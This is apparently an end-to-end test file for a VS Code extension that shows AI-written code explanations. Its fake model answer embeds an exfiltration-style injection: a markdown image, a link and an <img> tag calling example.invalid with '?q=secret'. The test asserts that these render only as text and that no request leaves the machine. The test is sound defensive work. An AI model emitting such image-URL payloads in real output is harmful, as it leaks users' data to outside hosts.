/**
 * An explanation whose answer carries a prompt injection (a remote image whose URL holds the code, and a link)
 * rendered in a real VS Code window: the browser's every request is watched, and none may leave for any host
 * but the local code-server. Photographed in the light theme (test-results/explanation-light.png). Then the
 * optional rating under it: 👍 pressed from the keyboard, recorded on the explanation's ledger record
 * (test-results/explanation-rated-light.png).
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import type { FrameLocator, Page, Request } from 'playwright-core';
import { ledgerFileName } from '../../src/core/ledger/store';
import { REPO_ROOT } from '../runner/editorSession';
import { openTandemWindow, type TandemWindow } from './tandemWindow';
import { runCommand, statusBarItem } from './workbench';

const RESULTS = path.join(REPO_ROOT, 'test-results');
const ANSWER = [
  'Sums each customer\'s order totals into a map keyed by customer id.',
  '',
  '- `totals.get(...) ?? 0` starts a new customer at zero.',
  '- Cents stay integers, so the sums are exact.',
  '',
  '![x](https://example.invalid/leak?q=secret)',
  '',
  'See [the Map docs](https://example.invalid/docs?q=secret) for more. <img src="https://example.invalid/raw?q=secret">',
  '',
  '```ts',
  'totals.set(id, (totals.get(id) ?? 0) + cents);',
  '```',
].join('\n');

describe('An explanation in a VS Code window', () => {
  let window: TandemWindow;
  let page: Page;
  const requests: Request[] = [];
  const cspViolations: string[] = [];

  before(async () => {
    window = await openTandemWindow({
      env: { ANTHROPIC_API_KEY: 'sk-ant-ui-explain-0123456789' },
      userSettings: { 'workbench.colorTheme': 'Default Light Modern' },
    });
    page = window.page;
    // Every request of every page, frame and worker of the browser (webviews included), from here on.
    page.context().on('request', (request: Request) => requests.push(request));
    page.on('console', (message) => {
      if (/Content Security Policy|Refused to/i.test(message.text())) cspViolations.push(message.text());
    });
    fs.mkdirSync(RESULTS, { recursive: true });
  });

  after(async () => {
    await window?.close();
  });

  /**
   * The requests that went out to the network for a host other than the local code-server. A webview's own
   * files have URLs on vscode-cdn.net, but the webview's service worker answers them from the extension,
   * inside the browser: those never reach the network.
   */
  async function leftTheMachine(seen: readonly Request[]): Promise<string[]> {
    const local = new URL(window.session.url).host;
    const away: string[] = [];
    for (const request of seen) {
      const url = new URL(request.url());
      if (!/^(https?|wss?):$/.test(url.protocol) || url.host === local) continue;
      const response = await request.response();
      if (!response?.fromServiceWorker()) away.push(request.url());
    }
    return away;
  }

  /** The explanation's page: inside the last webview's outer frame, its active inner frame. */
  function explanation(): FrameLocator {
    return page.locator('iframe.webview.ready').last().contentFrame().frameLocator('iframe#active-frame');
  }

  it('renders a remote image and a link as text, and no request leaves the machine', async () => {
    await statusBarItem(page, '$0.00').waitFor({ state: 'visible', timeout: 60_000 });
    await page.getByRole('treeitem', { name: 'src' }).click();
    await page.getByRole('treeitem', { name: 'orders.ts' }).dblclick();
    await runCommand(page, 'View: Close Primary Side Bar');
    const editor = page.locator('.monaco-editor .view-lines').first();
    await editor.waitFor({ state: 'visible' });
    await editor.click();
    await page.keyboard.press('ControlOrMeta+A');
    window.fake.script({ match: { provider: 'anthropic' }, reply: { text: ANSWER } });
    requests.length = 0;

    // Its keys, in the editor: the palette's Escape would clear the selection first.
    await page.keyboard.press('Control+Shift+Alt+X');
    const shown = explanation();
    // The answer's last part, on screen: the whole answer has been rendered.
    await shown.locator('pre code', { hasText: 'totals.set(id' }).waitFor({ state: 'visible', timeout: 30_000 });
    // Give an image (were there one) the time to be fetched, and the theme's fonts to settle.
    await page.waitForTimeout(1500);
    await page.screenshot({ path: path.join(RESULTS, 'explanation-light.png') });

    assert.equal(window.fake.requests().filter((r) => r.provider === 'anthropic').length, 1, 'the explanation came from the fake Anthropic');
    assert.deepEqual(await leftTheMachine(requests), [], 'no request left for any host but the local code-server');
    assert.ok(!requests.some((request) => request.url().includes('example.invalid')));

    assert.equal(await shown.locator('body :is(img, a, iframe, object, embed)').count(), 0, 'no image, link or frame in the page');
    await shown.getByText('[image “x” from example.invalid, not loaded]').waitFor({ state: 'visible' });
    assert.equal(await shown.locator('.link-url', { hasText: '(https://example.invalid/docs?q=secret)' }).count(), 1, 'the link\'s URL shown as text');
    await shown.getByText('<img src="https://example.invalid/raw?q=secret">').waitFor({ state: 'visible' });
    await shown.locator('[aria-busy="false"]').waitFor({ state: 'attached' });
    assert.match(await page.locator('.tab.active', { hasText: 'Explanation of' }).innerText(), /^Explanation of orders\.ts \(lines 1–\d+\)/);
    assert.deepEqual(cspViolations, [], 'nothing was even attempted: the page never asked for anything its CSP refuses');
  });

  /** The lines of one file of the ledger folder (this month's calls or quality signals), parsed. */
  function ledgerLines(file: string): Record<string, unknown>[] {
    const dir = path.join(window.session.server.userDataDir, 'User', 'globalStorage', 'tandem-dev.tandem', 'ledger');
    const full = path.join(dir, file);
    if (!fs.existsSync(full)) return [];
    return fs.readFileSync(full, 'utf8').split('\n').filter((line) => line.trim() !== '')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
  }

  it('offers an optional 👍 / 👎 under the finished explanation; 👍 from the keyboard is recorded on its call', async () => {
    const shown = explanation();
    await shown.getByText('Was this helpful?').waitFor({ state: 'visible' });
    const up = shown.getByRole('button', { name: 'Helpful', exact: true });
    const down = shown.getByRole('button', { name: 'Not helpful', exact: true });
    assert.equal(await up.getAttribute('aria-pressed'), 'false');
    assert.equal(await down.getAttribute('aria-pressed'), 'false');

    await up.focus();
    await page.keyboard.press('Enter');
    await shown.locator('button[data-rating="up"][aria-pressed="true"]').waitFor({ state: 'attached', timeout: 10_000 });
    assert.equal(await down.getAttribute('aria-pressed'), 'false');
    await shown.getByText('Thanks, noted.').waitFor({ state: 'visible' });
    await page.screenshot({ path: path.join(RESULTS, 'explanation-rated-light.png') });

    const explain = ledgerLines(ledgerFileName(new Date())).filter((r) => r.task === 'explain');
    assert.equal(explain.length, 1, 'one explanation in the ledger');
    let ratings: Record<string, unknown>[] = [];
    for (let i = 0; i < 100 && ratings.length === 0; i++) {
      ratings = ledgerLines(ledgerFileName(new Date(), 'quality')).filter((s) => s.name === 'thumbsUp' || s.name === 'thumbsDown');
      if (ratings.length === 0) await page.waitForTimeout(100);
    }
    assert.deepEqual(ratings.map((s) => [s.name, s.call]), [['thumbsUp', explain[0].id]]);
  });
});
